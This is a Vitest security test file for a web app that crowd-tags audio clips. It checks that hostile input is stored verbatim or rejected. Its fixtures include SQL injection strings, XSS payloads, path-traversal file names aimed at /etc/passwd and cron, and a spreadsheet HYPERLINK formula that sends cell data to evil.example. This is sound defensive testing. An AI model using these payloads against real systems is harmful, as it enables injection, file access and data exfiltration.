import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { eq, inArray } from 'drizzle-orm';
import { clips, users, type Role } from '@/db/schema';
import { execRows, sql } from '@/db/client';
import { encodeWav } from '@/lib/audio/wav';
import { createApiToken } from '@/lib/auth/repo';
import { recordSignInFailure, resetSignInThrottle } from '@/lib/auth/throttle';
import { readCatalog } from '@/lib/catalog/importer';
import { ingestAudio, unstorableText } from '@/lib/catalog/ingest';
import { resetEnvCache } from '@/lib/env';
import { enforceRateLimit, resetRateLimiters } from '@/lib/http/rate-limit';
import { createBoss, JobEngine, type JobDefinition } from '@/lib/jobs/engine';
import { changeProjectSettings } from '@/lib/settings/service';
import { LocalAudioStore, setAudioStore } from '@/lib/storage';
import { createTaxonomyVersion, getActiveTaxonomy } from '@/lib/taxonomy/repo';
import { extractFeaturesJob } from '@/jobs/extract-features';
import { POST as upload, GET as listClips } from '@/app/api/clips/route';
import { GET as clipAudio } from '@/app/api/clips/[id]/audio/route';
import { GET as nextClip } from '@/app/api/queue/next/route';
import { POST as vote } from '@/app/api/votes/route';
import { GET as exportJsonl } from '@/app/api/export/jsonl/route';
import { GET as taxonomyRoute } from '@/app/api/taxonomy/route';
import { GET as metricsRoute } from '@/app/api/metrics/route';
import { GET as meRoute } from '@/app/api/me/route';
import { POST as nextAuthPost } from '@/app/api/auth/[...nextauth]/route';
import { createTestDb, ensureTaxonomy, type TestDb } from '../helpers/db';
import { ctx, request } from '../helpers/http';

/**
 * Hostile input end to end, on the server side: titles, artists, tag labels, filters and
 * catalog cells that look like SQL, HTML/JS or spreadsheet formulas are stored and returned
 * byte for byte (no SQL effect); uploads are judged by their bytes, capped in size and
 * duration, and named however the sender likes without anything landing outside the store;
 * catalog paths cannot leave their folder; votes, uploads and sign-in answer 429 with
 * Retry-After past their limits; operators get metrics and request ids.
 * (The browser half — nothing executes when these are rendered — is tests/e2e/security.e2e.ts.)
 */
export const HOSTILE = [
  "'); drop table clips;--",
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(2)">',
  '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  "Robert'); DELETE FROM votes WHERE ('1'='1",
  '{{7*7}} ${7*7} %s%n',
  '"quoted", with comma\nand a newline',
  '\u202eevil\u202c ünïcödé 😀',
];

let t: TestDb;
let dir: string;
let store: LocalAudioStore;
const tokens: Partial<Record<Role, string>> = {};

async function quickUser(role: Role) {
  const suffix = randomBytes(4).toString('hex');
  const [user] = await t.handle.db.insert(users).values({ email: `${role}-${suffix}@input.test`, name: `${role} ${suffix}`, role }).returning();
  return { user, token: (await createApiToken(t.handle.db, user.id, 'test')).token };
}

function wav(seconds: number, freq: number, sampleRate = 8000): Uint8Array {
  return encodeWav([Float32Array.from({ length: Math.round(seconds * sampleRate) }, (_, i) => 0.4 * Math.sin((2 * Math.PI * freq * i) / sampleRate))], sampleRate);
}

function uploadRequest(files: { name: string; bytes: Uint8Array }[], fields: Record<string, string> = {}, token = tokens.admin!) {
  const form = new FormData();
  for (const f of files) form.append('file', new Blob([f.bytes as BlobPart], { type: 'application/octet-stream' }), f.name);
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  return new Request('http://localhost/api/clips', { method: 'POST', body: form, headers: { authorization: `Bearer ${token}` } });
}

function setEnv(vars: Record<string, string | undefined>) {
  for (const [k, v] of Object.entries(vars)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  resetEnvCache();
  resetRateLimiters();
}

const ENV_KEYS = ['CHORUS_MAX_UPLOAD_MB', 'CHORUS_MAX_DURATION_S', 'CHORUS_RATE_VOTES_PER_S', 'CHORUS_RATE_VOTES_BURST', 'CHORUS_RATE_UPLOADS_PER_S', 'CHORUS_RATE_UPLOADS_BURST', 'CHORUS_METRICS_TOKEN'];

beforeAll(async () => {
  t = await createTestDb();
  await ensureTaxonomy(t.handle.db);
  await changeProjectSettings(t.handle.db, { goldRate: 0, newContributorGoldRate: 0, targetedQuestionRate: 0 });
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'chorus-input-'));
  store = new LocalAudioStore(path.join(dir, 'store'));
  setAudioStore(store);
  for (const role of ['contributor', 'engineer', 'admin'] as const) tokens[role] = (await quickUser(role)).token;
}, 120_000);

afterEach(() => setEnv(Object.fromEntries(ENV_KEYS.map((k) => [k, undefined]))));

afterAll(async () => {
  setAudioStore(undefined);
  resetSignInThrottle();
  fs.rmSync(dir, { recursive: true, force: true });
  await t.close();
});

async function clipCount(): Promise<number> {
  const [row] = await execRows<{ n: number }>(t.handle.db, sql`select count(*)::int as n from clips`);
  return Number(row.n);
}

describe('hostile text is stored and shown exactly, with no SQL effect', () => {
  it('titles and artists from an upload come back byte for byte from every API that shows them', async () => {
    const ids: string[] = [];
    for (const [i, text] of HOSTILE.entries()) {
      const res = await upload(uploadRequest([{ name: `${text.slice(0, 20)}.wav`, bytes: wav(0.3, 200 + i * 10) }], { title: text, artist: text }), ctx({}));
      expect(res.status, text).toBe(201);
      const { results } = (await res.json()) as { results: { clipId: string; status: string }[] };
      expect(results[0].status).toBe('created');
      ids.push(results[0].clipId);
    }
    // Put them first in the crowd queue.
    await t.handle.db.update(clips).set({ priority: 1000, status: 'ready' }).where(inArray(clips.id, ids));

    // multipart/form-data turns every line break of a text field into CRLF (the HTML spec's rule), so that is what arrives.
    const sent = HOSTILE.map((h) => h.replace(/\r?\n/g, '\r\n').trim());
    const listed = (await (await listClips(request('GET', '/api/clips?limit=500', { token: tokens.engineer }), ctx({}))).json()) as {
      items: { id: string; title: string; artist: string }[];
    };
    for (const [i, id] of ids.entries()) {
      const row = listed.items.find((x) => x.id === id)!;
      expect(row.title).toBe(sent[i]);
      expect(row.artist).toBe(sent[i]);
    }

    const seen = new Map<string, { title: string; artist: string }>();
    for (let i = 0; i < ids.length; i++) {
      const res = await nextClip(request('GET', '/api/queue/next', { token: tokens.contributor }), ctx({}));
      expect(res.status).toBe(200);
      const item = (await res.json()) as { lease: { id: string }; clip: { id: string; title: string; artist: string }; taxonomy: { tags: { key: string }[] } };
      seen.set(item.clip.id, item.clip);
      const voted = await vote(
        request('POST', '/api/votes', { token: tokens.contributor, body: { kind: 'vote', leaseId: item.lease.id, tags: [item.taxonomy.tags[0].key], idempotencyKey: `hostile-${i}-${item.lease.id}` } }),
        ctx({}),
      );
      expect(voted.status).toBe(201);
    }
    for (const [i, id] of ids.entries()) expect(seen.get(id), `queue item for hostile #${i}`).toMatchObject({ title: sent[i], artist: sent[i] });

    const exported = await (await exportJsonl(request('GET', '/api/export/jsonl', { token: tokens.engineer }), ctx({}))).text();
    const rows = exported.trim().split('\n').map((l) => JSON.parse(l) as { clip_id: string; title: string; artist: string });
    for (const [i, id] of ids.entries()) expect(rows.find((r) => r.clip_id === id)).toMatchObject({ title: sent[i], artist: sent[i] });

    // The tables the SQL-looking strings name are all still there, with every row.
    expect(await clipCount()).toBe(ids.length);
    const [v] = await execRows<{ n: number }>(t.handle.db, sql`select count(*)::int as n from votes`);
    expect(Number(v.n)).toBe(ids.length);
  });

  it('catalog CSV cells (formulas, quotes, SQL, markup) are read exactly and stored exactly', async () => {
    const folder = path.join(dir, 'catalog');
    fs.mkdirSync(folder, { recursive: true });
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const lines = ['path,title,artist,licence,provenance'];
    HOSTILE.forEach((text, i) => {
      fs.writeFileSync(path.join(folder, `t${i}.wav`), wav(0.2, 700 + i * 13));
      lines.push([`t${i}.wav`, quote(text), quote(text), 'CC0-1.0', quote(text)].join(','));
    });
    fs.writeFileSync(path.join(folder, 'catalog.csv'), lines.join('\r\n'));
    const { entries, problems } = await readCatalog(path.join(folder, 'catalog.csv'));
    expect(problems).toEqual([]);
    expect(entries.map((e) => e.row.title)).toEqual(HOSTILE.map((h) => h.trim()));
    const before = await clipCount();
    for (const e of entries) {
      const r = await ingestAudio(
        t.handle.db,
        store,
        { bytes: new Uint8Array(fs.readFileSync(e.file)), name: path.basename(e.file), source: 'import:test', metadata: { title: e.row.title!, artist: e.row.artist ?? '', licence: 'CC0-1.0', provenance: e.row.provenance } },
        { maxBytes: 10e6 },
      );
      const [row] = await t.handle.db.select().from(clips).where(eq(clips.id, r.clipId!));
      expect(row.title).toBe(e.row.title);
      expect(row.provenance).toMatchObject({ note: e.row.provenance.note });
    }
    expect(await clipCount()).toBe(before + HOSTILE.length);
  });

  it('a NUL character (which PostgreSQL cannot store) or absurdly deep metadata is a clear per-file error, not a 500', async () => {
    const res = await upload(uploadRequest([{ name: 'nul.wav', bytes: wav(0.2, 333) }], { title: 'before\u0000after' }), ctx({}));
    expect(res.status).toBe(422);
    const { results } = (await res.json()) as { results: { status: string; error: string }[] };
    expect(results[0]).toMatchObject({ status: 'rejected' });
    expect(results[0].error).toMatch(/title contains a NUL character/);
    const named = await upload(uploadRequest([{ name: 'evil\u0000.wav', bytes: wav(0.2, 334) }]), ctx({}));
    expect(named.status).toBeLessThan(500);
    let deep: Record<string, unknown> = { leaf: 1 };
    for (let i = 0; i < 100; i++) deep = { deeper: deep };
    expect(unstorableText({ title: 'x', provenance: deep })).toMatch(/nested more than/);
    const err = await ingestAudio(t.handle.db, store, { bytes: wav(0.2, 335), name: 'deep.wav', source: 't', metadata: { title: 'deep', artist: '', licence: 'x', provenance: deep } }, { maxBytes: 1e7 }).catch((e: Error) => e);
    expect((err as Error).message).toMatch(/nested more than 32 levels/);
  });

  it('tag labels and descriptions with markup come back exactly from /api/taxonomy', async () => {
    const current = await getActiveTaxonomy(t.handle.db);
    const tags = current.tags.map((tag, i) => ({ ...tag, label: HOSTILE[i % HOSTILE.length].slice(0, 60).trim(), description: HOSTILE[(i + 1) % HOSTILE.length] }));
    await createTaxonomyVersion(t.handle.db, tags, '<b>note</b>');
    const body = (await (await taxonomyRoute(request('GET', '/api/taxonomy', { token: tokens.contributor }), ctx({}))).json()) as { tags: typeof tags };
    expect(body.tags.map((x) => [x.label, x.description])).toEqual(tags.map((x) => [x.label, x.description]));
    await createTaxonomyVersion(t.handle.db, current.tags, 'restore');
  });

  it('SQL in filters and ids is refused by validation (400), and changes nothing', async () => {
    const before = await clipCount();
    const probes: [string, Promise<Response>][] = [
      ['state filter', listClips(request('GET', `/api/clips?state=${encodeURIComponent("open' or '1'='1")}`, { token: tokens.engineer }), ctx({}))],
      ['limit', listClips(request('GET', `/api/clips?limit=${encodeURIComponent('1; drop table clips')}`, { token: tokens.engineer }), ctx({}))],
      ['exclude', nextClip(request('GET', `/api/queue/next?exclude=${encodeURIComponent("x'); drop table clips;--")}`, { token: tokens.contributor }), ctx({}))],
      ['lease id', vote(request('POST', '/api/votes', { token: tokens.contributor, body: { kind: 'vote', leaseId: "' or 1=1 --", tags: ['calm'], idempotencyKey: 'sql-probe-1' } }), ctx({}))],
      ['tag key', vote(request('POST', '/api/votes', { token: tokens.contributor, body: { kind: 'vote', leaseId: '00000000-0000-4000-8000-000000000000', tags: ["calm'); drop table votes;--"], idempotencyKey: 'sql-probe-2' } }), ctx({}))],
      ['clip id', clipAudio(request('GET', '/api/clips/x/audio', { token: tokens.contributor }), ctx({ id: "1' or '1'='1" }))],
    ];
    for (const [label, pending] of probes) {
      const res = await pending;
      expect(res.status, label).toBe(400);
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(body.error.code, label).toBe('BAD_REQUEST');
    }
    expect(await clipCount()).toBe(before);
  });
});

describe('uploads', () => {
  it('are judged by their bytes: a PDF named .wav and a WAV named .mp3', async () => {
    const res = await upload(
      uploadRequest([
        { name: 'song.wav', bytes: new TextEncoder().encode('%PDF-1.7 not audio at all') },
        { name: 'really-a-wav.mp3', bytes: wav(0.2, 901) },
      ]),
      ctx({}),
    );
    const { results } = (await res.json()) as { results: { status: string; error?: string }[] };
    expect(results[0].status).toBe('rejected');
    expect(results[0].error).toMatch(/song\.wav: .*(PDF|not an audio file)/);
    expect(results[1].status).toBe('created');
    const [row] = await t.handle.db.select().from(clips).where(eq(clips.title, 'really-a-wav'));
    expect(row.audioKey).toMatch(/\.wav$/);
  });

  it('over CHORUS_MAX_UPLOAD_MB: 413 from the declared length before reading, or a per-file rejection', async () => {
    setEnv({ CHORUS_MAX_UPLOAD_MB: '0.01' });
    const big = wav(2, 440); // ≈ 32 KB > 10 KB
    const res = await upload(uploadRequest([{ name: 'big.wav', bytes: big }]), ctx({}));
    expect(res.status).toBe(422);
    const { results } = (await res.json()) as { results: { error: string }[] };
    expect(results[0].error).toMatch(/over the 0 MB limit|over the .* limit/);
    const declared = new Request('http://localhost/api/clips', {
      method: 'POST',
      headers: { authorization: `Bearer ${tokens.admin}`, 'content-length': String(50e6), 'content-type': 'multipart/form-data; boundary=x' },
      body: '--x--',
      duplex: 'half',
    } as RequestInit);
    const refused = await upload(declared, ctx({}));
    expect(refused.status).toBe(413);
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('over CHORUS_MAX_DURATION_S: stored, then marked failed by extraction with the reason', async () => {
    setEnv({ CHORUS_MAX_DURATION_S: '1' });
    const res = await upload(uploadRequest([{ name: 'long.wav', bytes: wav(2.5, 523) }], { title: 'too long' }), ctx({}));
    const { results } = (await res.json()) as { results: { clipId: string }[] };
    const clipId = results[0].clipId;
    await extractFeaturesJob.handler({ clipIds: [clipId] }, { jobId: 'test', db: t.handle.db, handle: t.handle, progress: async () => {} });
    const [row] = await t.handle.db.select().from(clips).where(eq(clips.id, clipId));
    expect(row.status).toBe('failed');
    expect(row.error).toMatch(/longer than the 1\.00 s limit/);
  });

  it('hostile file names (traversal, absolute, URI, backslashes) never decide where bytes are written', async () => {
    const outside = fs.readdirSync(dir).sort();
    const names = ['../../etc/passwd.wav', '/etc/cron.d/evil.wav', '..\\..\\windows\\evil.wav', 'file:///etc/passwd', '....//....//x.wav', '%2e%2e%2fx.wav'];
    const res = await upload(uploadRequest(names.map((name, i) => ({ name, bytes: wav(0.2, 1000 + i * 17) }))), ctx({}));
    expect(res.status).toBe(201);
    const { results } = (await res.json()) as { results: { status: string; name: string }[] };
    expect(results.map((r) => r.status)).toEqual(names.map(() => 'created'));
    // Every file in the store is a content-addressed key; nothing appeared beside the store.
    const walk = (d: string): string[] => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]));
    for (const file of walk(path.join(dir, 'store'))) expect(path.relative(path.join(dir, 'store'), file)).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{64}\.[a-z0-9]{1,5}$/);
    expect(fs.readdirSync(dir).sort()).toEqual(outside);
    expect(fs.existsSync('/etc/passwd.wav')).toBe(false);
    expect(fs.existsSync('/etc/cron.d/evil.wav')).toBe(false);
  });
});

describe('catalog paths', () => {
  it('traversal, absolute paths, file:// elsewhere, remote URIs, NUL bytes and links out of the folder are refused per row', async () => {
    const folder = path.join(dir, 'paths');
    fs.mkdirSync(path.join(folder, 'sub'), { recursive: true });
    fs.writeFileSync(path.join(folder, 'ok.wav'), wav(0.1, 300));
    fs.writeFileSync(path.join(folder, 'sub', 'ok2.wav'), wav(0.1, 301));
    const secret = path.join(dir, 'secret.wav');
    fs.writeFileSync(secret, wav(0.1, 302));
    fs.symlinkSync(secret, path.join(folder, 'link.wav'));
    fs.symlinkSync(dir, path.join(folder, 'linkdir'));
    const rows = [
      { path: 'ok.wav' },
      { path: 'sub/ok2.wav' },
      { path: `file://${path.join(folder, 'ok.wav')}` },
      { path: '../../etc/passwd' },
      { path: '/etc/passwd' },
      { path: 'file:///etc/passwd' },
      { path: 'file://evil.example/share/x.wav' },
      { path: 'http://evil.example/x.wav' },
      { path: 'sub/../../secret.wav' },
      { path: 'a\u0000b.wav' },
      { path: 'file:///etc/pa%00sswd' },
      { path: 'link.wav' },
      { path: 'linkdir/secret.wav' },
    ];
    fs.writeFileSync(path.join(folder, 'catalog.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n'));
    const { entries, problems } = await readCatalog(path.join(folder, 'catalog.jsonl'));
    expect(entries.map((e) => path.relative(folder, e.file))).toEqual(['ok.wav', path.join('sub', 'ok2.wav'), 'ok.wav']);
    expect(problems.map((p) => p.line)).toEqual([4, 5, 6, 7, 8, 9, 10, 11, 12, 13]);
    for (const p of problems) expect(p.error).toMatch(/outside the catalog folder|only local paths|NUL|link to a file outside/);
    expect(problems.find((p) => p.line === 12)!.error).toMatch(/link to a file outside/);
    // A folder import does not follow links either.
    const scanned = await readCatalog(folder);
    expect(scanned.entries.map((e) => path.relative(folder, e.file)).sort()).toEqual(['ok.wav', path.join('sub', 'ok2.wav')]);
  });
});

describe('rate limits answer 429 with Retry-After', () => {
  it('votes: per user, past the burst', async () => {
    setEnv({ CHORUS_RATE_VOTES_PER_S: '0.5', CHORUS_RATE_VOTES_BURST: '3' });
    const body = { kind: 'skip', leaseId: '00000000-0000-4000-8000-000000000000', idempotencyKey: 'rate-limit-probe' };
    const statuses: number[] = [];
    for (let i = 0; i < 4; i++) statuses.push((await vote(request('POST', '/api/votes', { token: tokens.contributor, body }), ctx({}))).status);
    expect(statuses).toEqual([404, 404, 404, 429]);
    const limited = await vote(request('POST', '/api/votes', { token: tokens.contributor, body }), ctx({}));
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(((await limited.json()) as { error: { code: string } }).error.code).toBe('RATE_LIMITED');
    // Someone else is not slowed down by it.
    expect((await vote(request('POST', '/api/votes', { token: tokens.engineer, body }), ctx({}))).status).toBe(404);
  });

  it('uploads: per user, refused before the body is read', async () => {
    setEnv({ CHORUS_RATE_UPLOADS_PER_S: '0.1', CHORUS_RATE_UPLOADS_BURST: '2' });
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) statuses.push((await upload(uploadRequest([{ name: 'x.txt', bytes: new Uint8Array([1, 2, 3]) }]), ctx({}))).status);
    expect(statuses).toEqual([422, 422, 429]);
    const limited = await upload(uploadRequest([{ name: 'x.txt', bytes: new Uint8Array([1]) }]), ctx({}));
    expect(limited.headers.get('retry-after')).toBe('10');
  });

  it('sign-in: per client IP and per (client IP, email), as 429 from the next-auth route (not its 401 redirect)', async () => {
    const signIn = (email: string, ip: string) =>
      nextAuthPost(
        new Request('http://localhost/api/auth/callback/credentials', {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': ip },
          body: new URLSearchParams({ email, password: 'guess', csrfToken: 'x', json: 'true' }),
        }),
        { params: Promise.resolve({ nextauth: ['callback', 'credentials'] }) },
      );
    // Drain one IP's bucket (next-auth itself needs the Next runtime, so the free attempts are taken directly).
    for (;;) {
      try {
        enforceRateLimit('signin', 'ip:198.51.100.7');
      } catch {
        break;
      }
    }
    const byIp = await signIn('someone@example.org', '198.51.100.7');
    expect(byIp.status).toBe(429);
    expect(Number(byIp.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    const body = (await byIp.json()) as { error: { code: string }; url: string };
    expect(body.error.code).toBe('RATE_LIMITED');
    expect(body.url).toMatch(/error=RATE_LIMITED/); // what next-auth's signIn() reads
    for (let i = 0; i < 8; i++) recordSignInFailure('203.0.113.9', 'victim@example.org');
    const byEmail = await signIn('Victim@Example.org', '203.0.113.9');
    expect(byEmail.status).toBe(429);
    expect(Number(byEmail.headers.get('retry-after'))).toBeGreaterThan(1);
    // …but only from that address: the same email from elsewhere is not held back (finding 6).
    // (Not 429 is all that can be seen here: past the throttle, next-auth needs the Next runtime.)
    const elsewhere = await signIn('victim@example.org', '192.0.2.44').catch(() => null);
    expect(elsewhere?.status).not.toBe(429);
  });
});

describe('observability', () => {
  it('/api/health answers 503 after 2 s when the database hangs, instead of hanging with it', async () => {
    const { setDbHandle } = await import('@/db');
    const { GET: health } = await import('@/app/api/health/route');
    setDbHandle({ ...t.handle, query: () => new Promise(() => {}) } as typeof t.handle);
    // A fake clock for the route's timer: the 2 s are checked exactly, not against a loaded machine's wall clock.
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
    try {
      let settled = false;
      const pending = health(request('GET', '/api/health'), ctx({})).finally(() => (settled = true));
      for (let i = 0; i < 1000 && vi.getTimerCount() === 0; i++) await new Promise((r) => setImmediate(r));
      await vi.advanceTimersByTimeAsync(1999);
      expect(settled).toBe(false);
      await vi.advanceTimersByTimeAsync(1);
      const res = await pending;
      expect(res.status).toBe(503);
      // Anonymous callers get the generic word (issue 22, finding 6); the timeout itself is in the server log.
      expect(((await res.json()) as { database: { reachable: boolean; error: string } }).database).toEqual({ reachable: false, error: 'The database is not reachable' });
    } finally {
      vi.useRealTimers();
      setDbHandle(t.handle);
    }
  });

  it('x-request-id: a sane incoming id is kept, a hostile one replaced; every answer carries one', async () => {
    const kept = await meRoute(request('GET', '/api/me', { token: tokens.contributor, headers: { 'x-request-id': 'proxy-abc.123' } }), ctx({}));
    expect(kept.headers.get('x-request-id')).toBe('proxy-abc.123');
    const replaced = await meRoute(request('GET', '/api/me', { headers: { 'x-request-id': '<script>alert(1)</script>{"level":60}' } }), ctx({}));
    expect(replaced.status).toBe(401);
    expect(replaced.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('GET /api/metrics: engineers and the metrics token only; latency per route template, queue depth, votes, jobs', async () => {
    // What the metrics must show, made here (not left over from earlier tests): an accepted vote,
    // an audio request by clip id, a vote refused by the rate limit.
    const voter = await quickUser('contributor');
    const [clip] = await t.handle.db.insert(clips).values({ sha256: randomBytes(32).toString('hex'), title: 'metrics clip', status: 'ready', priority: 1_000_000 }).returning();
    const item = (await (await nextClip(request('GET', '/api/queue/next', { token: voter.token }), ctx({}))).json()) as { lease: { id: string }; clip: { id: string } };
    expect(item.clip.id).toBe(clip.id);
    const tag = (await getActiveTaxonomy(t.handle.db)).tags[0].key;
    const accepted = await vote(request('POST', '/api/votes', { token: voter.token, body: { kind: 'vote', leaseId: item.lease.id, tags: [tag], idempotencyKey: 'metrics-vote-1' } }), ctx({}));
    expect(accepted.status).toBe(201);
    expect((await clipAudio(request('GET', `/api/clips/${clip.id}/audio`, { token: voter.token }), ctx({ id: clip.id }))).status).toBe(404);
    setEnv({ CHORUS_RATE_VOTES_PER_S: '0.01', CHORUS_RATE_VOTES_BURST: '1' });
    const probe = { kind: 'skip', leaseId: '00000000-0000-4000-8000-000000000000', idempotencyKey: 'metrics-rate-probe' };
    expect((await vote(request('POST', '/api/votes', { token: voter.token, body: probe }), ctx({}))).status).toBe(404);
    expect((await vote(request('POST', '/api/votes', { token: voter.token, body: probe }), ctx({}))).status).toBe(429);

    // A job run, to see the job metrics move.
    const engine = new JobEngine(createBoss(t.handle), t.handle);
    const failing: JobDefinition<unknown> = {
      name: 'security-test-job',
      schema: { parse: (x: unknown) => x } as never,
      options: { retryLimit: 0, retryDelay: 1, retryBackoff: false, expireInSeconds: 30 },
      handler: async () => {
        throw new Error('planned');
      },
    };
    const run = (engine as unknown as { run(def: unknown, id: string, raw: unknown, retry: number): Promise<void> }).run.bind(engine);
    await expect(run(failing, '00000000-0000-4000-8000-00000000abcd', {}, 0)).rejects.toThrow('planned');

    expect((await metricsRoute(request('GET', '/api/metrics'), ctx({}))).status).toBe(401);
    expect((await metricsRoute(request('GET', '/api/metrics', { token: tokens.contributor }), ctx({}))).status).toBe(403);
    const res = await metricsRoute(request('GET', '/api/metrics', { token: tokens.engineer }), ctx({}));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/plain/);
    const text = await res.text();
    expect(text).toMatch(/chorus_http_request_duration_seconds_count\{[^}]*method="POST"[^}]*route="\/api\/votes"[^}]*status_class="2xx"[^}]*\} [1-9]/);
    expect(text).toMatch(/route="\/api\/clips\/\[id\]\/audio"/);
    expect(text).not.toMatch(/route="\/api\/clips\/[0-9a-f-]{36}/);
    expect(text).toMatch(/chorus_queue_depth\{[^}]*state="open"[^}]*\} \d+/);
    expect(text).toMatch(/chorus_queue_depth\{[^}]*state="disputed"[^}]*\} 0/);
    expect(text).toMatch(/chorus_votes_total\{[^}]*kind="vote"[^}]*\} [1-9]/);
    expect(text).toMatch(/chorus_rate_limited_total\{[^}]*limit="votes"[^}]*\} [1-9]/);
    expect(text).toMatch(/chorus_job_failures_total\{[^}]*job="security-test-job"[^}]*\} 1/);
    expect(text).toMatch(/chorus_job_duration_seconds_count\{[^}]*job="security-test-job"[^}]*outcome="failed"[^}]*\} 1/);
    expect(text).toMatch(/process_cpu_seconds_total/);

    setEnv({ CHORUS_METRICS_TOKEN: 'scraper-secret-0123456789' });
    expect((await metricsRoute(request('GET', '/api/metrics', { token: 'scraper-secret-0123456789' }), ctx({}))).status).toBe(200);
    expect((await metricsRoute(request('GET', '/api/metrics', { token: 'scraper-secret-012345678X' }), ctx({}))).status).toBe(401);
  });
});
